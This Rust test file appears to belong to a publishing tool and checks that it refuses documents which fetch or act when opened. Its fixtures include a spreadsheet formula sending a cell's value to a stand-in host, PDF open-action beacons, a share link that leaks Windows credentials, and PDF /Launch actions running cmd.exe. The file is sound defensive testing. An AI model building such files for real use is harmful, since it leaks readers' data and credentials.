//! Defects found by a fifth black-box sweep with hostile input (documents
//! that fetch when opened: spreadsheet formulas, PDF open and page
//! actions): each test is the smallest site that showed one.

mod common;

use common::office::{refused, site_linking, zip_of};

const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

/// A workbook whose first sheet holds `cells` (`<c>` elements).
fn workbook(cells: &str, names: &str) -> Vec<u8> {
    let book = format!("<workbook xmlns=\"{MAIN}\"><sheets/>{names}</workbook>");
    let sheet = format!(
        "<worksheet xmlns=\"{MAIN}\"><sheetData><row r=\"1\">{cells}</row></sheetData></worksheet>"
    );
    common::office::package(&[
        ("xl/workbook.xml", &book),
        ("xl/worksheets/sheet1.xml", &sheet),
    ])
}

/// Excel calculates `WEBSERVICE` (and Excel 365's `IMAGE`) when the
/// workbook opens: the address learns who opened it, and a formula can
/// send it the sheet's cells.
#[test]
fn a_workbook_whose_formula_fetches_an_address_is_not_published() {
    let cell = "<c r=\"B2\" t=\"str\"><f>_xlfn.WEBSERVICE(\"https://t.example/?n=\"&amp;A1)</f><v>ok</v></c>";
    refused(
        "contacts.xlsx",
        &workbook(cell, ""),
        &[
            "a formula in it fetches from another computer",
            "cell B2 of `xl/worksheets/sheet1.xml` calls WEBSERVICE: `_xlfn.WEBSERVICE(\"https://t.example/?n=\"&A1)`",
            "Paste Special > Values",
        ],
    );
    // A name the workbook defines can hold the formula a cell uses.
    let name = "<definedNames><definedName name=\"logo\">_xlfn.IMAGE(\"https://t.example/p.png\")</definedName></definedNames>";
    refused(
        "contacts.xlsx",
        &workbook("<c r=\"A1\"><f>logo</f></c>", name),
        &["the name `logo` of `xl/workbook.xml` calls IMAGE"],
    );
}

#[test]
fn a_workbook_of_ordinary_formulas_is_published() {
    let cells = "<c r=\"A1\"><f>SUM(B1:B9)</f><v>3</v></c><c r=\"A2\"><f>HYPERLINK(\"https://example.org/\",\"site\")</f></c>";
    let (s, _) = site_linking("contacts.xlsx", &workbook(cells, ""));
    s.build_ok();
    assert!(s.out().join("en/handbook/contacts.xlsx").exists());
}

/// An OpenDocument spreadsheet whose one row holds `cells`.
fn spreadsheet(cells: &str) -> Vec<u8> {
    let content = format!(
        "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><office:body><office:spreadsheet><table:table table:name=\"Sheet1\"><table:table-row>{cells}</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    );
    common::office::package(&[
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        ("content.xml", &content),
    ])
}

/// LibreOffice saves Excel's `WEBSERVICE` in its own name space.
#[test]
fn an_opendocument_sheet_whose_formula_fetches_is_not_published() {
    let ods = spreadsheet(
        "<table:table-cell table:formula=\"of:=COM.MICROSOFT.WEBSERVICE(&quot;https://t.example/o&quot;)\"/>",
    );
    refused(
        "contacts.ods",
        &ods,
        &[
            "a formula in `content.xml` calls WEBSERVICE: `of:=COM.MICROSOFT.WEBSERVICE(\"https://t.example/o\")`",
        ],
    );
}

/// A PDF of numbered objects, uncompressed.
fn pdf(objects: &[&str]) -> Vec<u8> {
    let mut out = String::from("%PDF-1.7\n");
    for (i, text) in objects.iter().enumerate() {
        out.push_str(&format!("{} 0 obj\n{text}\nendobj\n", i + 1));
    }
    out.push_str("trailer\n<< /Root 1 0 R >>\n%%EOF\n");
    out.into_bytes()
}

/// A viewer runs a document's open action, and a page's, unasked: one
/// that opens an address is a tracking beacon, one that opens a file on a
/// share hands Windows readers' credentials to its host.
#[test]
fn a_pdf_that_fetches_when_opened_is_not_published() {
    let beacon = pdf(&[
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R >>",
        "<< /S /URI /URI (https://t.example/opened) >>",
    ]);
    refused(
        "scan.pdf",
        &beacon,
        &[
            "a `/URI` action run on opening (`/OpenAction`) `https://t.example/opened`",
            "print it to a new PDF",
        ],
    );
    let share = pdf(&[
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /AA << /O << /S /GoToR /F (\\\\\\\\203.0.113.9\\\\share\\\\a.pdf) /D [0 /Fit] >> >> >>",
    ]);
    refused(
        "scan.pdf",
        &share,
        &[
            "a `/GoToR` action run on an event of the document, a page, a link or a field (`/AA /O`) `\\\\203.0.113.9\\share\\a.pdf`",
        ],
    );
}

/// A link the reader clicks is what a PDF's links are for.
#[test]
fn a_pdf_with_a_link_is_published() {
    let linked = pdf(&[
        "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>",
        "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org/) >> >>",
    ]);
    let (s, _) = site_linking("scan.pdf", &linked);
    s.build_ok();
    assert!(s.out().join("en/handbook/scan.pdf").exists());
}

/// A phone recording inserted into a slide keeps the place it was made,
/// as a recording file would; and a photo is known by its bytes, not by
/// the name of its part (PowerPoint shows a part by its content type).
#[test]
fn a_deck_holding_a_located_recording_or_a_renamed_photo_is_not_published() {
    let clip = common::photo::located_clip();
    let slide = b"<p:sld xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"/>";
    let deck = zip_of(&[
        ("ppt/slides/slide1.xml", slide),
        ("ppt/media/media1.mp4", &clip),
    ]);
    refused(
        "training.pptx",
        &deck,
        &[
            "a photo in it records where it was taken",
            "`ppt/media/media1.mp4` (a recording",
        ],
    );
    let photo = common::photo::phone_photo();
    let deck = zip_of(&[
        ("ppt/slides/slide1.xml", slide),
        ("ppt/media/image1.bin", &photo),
    ]);
    refused("training.pptx", &deck, &["`ppt/media/image1.bin`"]);
}

/// Office files keep everyone who commented or changed them in parts of
/// their own, often after the comments and changes are gone: the warning
/// names them, as it names the author.
#[test]
fn people_named_beside_the_comments_are_named_in_the_warning() {
    let w15 = "http://schemas.microsoft.com/office/word/2012/wordml";
    let people = format!(
        "<w15:people xmlns:w15=\"{w15}\"><w15:person w15:author=\"Amina Yusuf\"><w15:presenceInfo w15:providerId=\"AD\" w15:userId=\"S::amina.yusuf@ngo.example::8a0c\"/></w15:person></w15:people>"
    );
    let body = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>";
    let docx =
        common::office::package(&[("word/document.xml", body), ("word/people.xml", &people)]);
    let authors = "<p:cmAuthorLst xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"><p:cmAuthor id=\"1\" name=\"Jo Okafor\" initials=\"JO\" lastIdx=\"1\" clrIdx=\"0\"/></p:cmAuthorLst>";
    let pptx = common::office::package(&[("ppt/commentAuthors.xml", authors)]);
    let content = "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><office:body><office:text><text:tracked-changes><text:changed-region text:id=\"c1\"><text:deletion><office:change-info><dc:creator>Musa Bello</dc:creator></office:change-info></text:deletion></text:changed-region></text:tracked-changes><text:p/></office:text></office:body></office:document-content>";
    let odt = common::office::package(&[
        ("mimetype", "application/vnd.oasis.opendocument.text"),
        ("content.xml", content),
    ]);
    // A sensitivity label set in Office names who set it.
    let custom = "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\" xmlns:vt=\"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes\"><property fmtid=\"{D5CDD505-2E9C-101B-9397-08002B2CF9AE}\" pid=\"2\" name=\"MSIP_Label_5b1e_Owner\"><vt:lpwstr>ibrahim@ngo.example</vt:lpwstr></property><property fmtid=\"{D5CDD505-2E9C-101B-9397-08002B2CF9AE}\" pid=\"3\" name=\"MSIP_Label_5b1e_Name\"><vt:lpwstr>Internal</vt:lpwstr></property></Properties>";
    let xlsx = common::office::package(&[("docProps/custom.xml", custom)]);
    for (file, bytes, said) in [
        (
            "budget.xlsx",
            xlsx,
            "who wrote or edited it (`ibrahim@ngo.example`)",
        ),
        (
            "form.docx",
            docx,
            "who wrote or edited it (`Amina Yusuf`, `amina.yusuf@ngo.example`)",
        ),
        ("slides.pptx", pptx, "who wrote or edited it (`Jo Okafor`)"),
        ("notes.odt", odt, "who wrote or edited it (`Musa Bello`)"),
    ] {
        let (s, _) = site_linking(file, &bytes);
        let o = s.build_ok();
        let at = format!("guidance/handbook/{file}: warning: the published copy keeps");
        assert!(
            o.stderr.contains(&at) && o.stderr.contains(said),
            "{file}: {}",
            o.stderr
        );
    }
}

/// Word keeps a chart's data, or any document pasted as an object, as a
/// whole document inside (`word/embeddings/`): one that fetches or holds a
/// located photo is opened by a double click, and downloaded with it.
#[test]
fn a_document_inside_a_document_is_checked_too() {
    let cell = "<c r=\"A1\"><f>WEBSERVICE(\"https://t.example/e\")</f></c>";
    let inner = workbook(cell, "");
    let body = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>";
    let docx = zip_of(&[
        ("word/document.xml", body.as_bytes()),
        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", &inner),
    ]);
    refused(
        "report.docx",
        &docx,
        &[
            "cell A1 of `xl/worksheets/sheet1.xml` calls WEBSERVICE: `WEBSERVICE(\"https://t.example/e\")` in `word/embeddings/Microsoft_Excel_Worksheet.xlsx`",
        ],
    );
    let photo = common::photo::phone_photo();
    let deck = zip_of(&[("ppt/media/image1.jpeg", &photo)]);
    let docx = zip_of(&[
        ("word/document.xml", body.as_bytes()),
        (
            "word/embeddings/Microsoft_PowerPoint_Presentation.pptx",
            &deck,
        ),
    ]);
    refused(
        "report.docx",
        &docx,
        &["`ppt/media/image1.jpeg` in `word/embeddings/Microsoft_PowerPoint_Presentation.pptx`"],
    );
}

/// An object stream whose dictionary ends with a nested one (`/DecodeParms
/// << … >>`, which Acrobat reads as usual) hid the `/Launch` inside it.
#[test]
fn a_launch_in_an_object_stream_with_parameters_is_found() {
    use std::io::Write;
    let objects = b"4 0 << /S /Launch /F (cmd.exe) >>";
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(objects).unwrap();
    let body = e.finish().unwrap();
    let mut pdf = format!(
        "%PDF-1.7\n9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} /DecodeParms << /Columns 1 >> >>\nstream\n",
        body.len()
    )
    .into_bytes();
    pdf.extend_from_slice(&body);
    pdf.extend_from_slice(
        b"\nendstream\nendobj\n1 0 obj\n<< /Type /Catalog /OpenAction 4 0 R >>\nendobj\n%%EOF\n",
    );
    refused("scan.pdf", &pdf, &["a `/Launch` action (starts a program)"]);
}

/// An object stream stored as it is (no filter, which viewers read), its
/// type written `/Obj#53tm`, was never read: its `/Launch` was published.
#[test]
fn a_launch_in_a_plain_object_stream_is_found() {
    let objects = "4 0 << /S /Launch /F (cmd.exe) >>";
    let pdf = format!(
        "%PDF-1.7\n9 0 obj\n<< /Type /Obj#53tm /N 1 /First 4 /Length {} >>\nstream\n{objects}\nendstream\nendobj\n1 0 obj\n<< /Type /Catalog /OpenAction 4 0 R >>\nendobj\n%%EOF\n",
        objects.len()
    );
    refused(
        "scan.pdf",
        pdf.as_bytes(),
        &["a `/Launch` action (starts a program)"],
    );
}

/// A workbook's data connection to a database server or a text file on a
/// share, which Excel refreshes (on opening with `refreshOnLoad`), as it
/// does a web query.
#[test]
fn a_workbook_connected_to_a_server_or_a_share_is_not_published() {
    let db = format!(
        "<connections xmlns=\"{MAIN}\"><connection id=\"1\" name=\"q\" type=\"1\" refreshOnLoad=\"1\"><dbPr connection=\"Provider=SQLOLEDB.1;Data Source=tracker.example;Initial Catalog=cases\" command=\"SELECT 1\"/></connection></connections>"
    );
    let text = format!(
        "<connections xmlns=\"{MAIN}\"><connection id=\"1\" name=\"t\" type=\"6\" refreshOnLoad=\"1\"><textPr sourceFile=\"\\\\203.0.113.9\\share\\list.csv\"/></connection></connections>"
    );
    for (connections, said) in [
        (db, "data connection `tracker.example`"),
        (text, "text import `\\\\203.0.113.9\\share\\list.csv`"),
    ] {
        let xlsx = common::office::package(&[("xl/connections.xml", &connections)]);
        refused("contacts.xlsx", &xlsx, &[said]);
    }
    // Power Query's own data is the workbook's.
    let mashup = format!(
        "<connections xmlns=\"{MAIN}\"><connection id=\"1\" name=\"m\" type=\"5\"><dbPr connection=\"Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Query1\"/></connection></connections>"
    );
    let (s, _) = site_linking(
        "contacts.xlsx",
        &common::office::package(&[("xl/connections.xml", &mashup)]),
    );
    s.build_ok();
}

/// LibreOffice's Sheet > Link to External Data keeps the address in a
/// range's `table:cell-range-source`, fetched again on opening.
#[test]
fn an_opendocument_sheet_linked_to_external_data_is_not_published() {
    let ods = spreadsheet(
        "<table:table-cell><table:cell-range-source table:name=\"HTML_1\" xlink:type=\"simple\" xlink:href=\"https://t.example/list.html\" table:filter-name=\"calc_HTML_WebQuery\" table:last-column-spanned=\"2\" table:last-row-spanned=\"5\" table:refresh-delay=\"PT60S\"/></table:table-cell>",
    );
    refused(
        "contacts.ods",
        &ods,
        &["cell-range-source `https://t.example/list.html`"],
    );
}
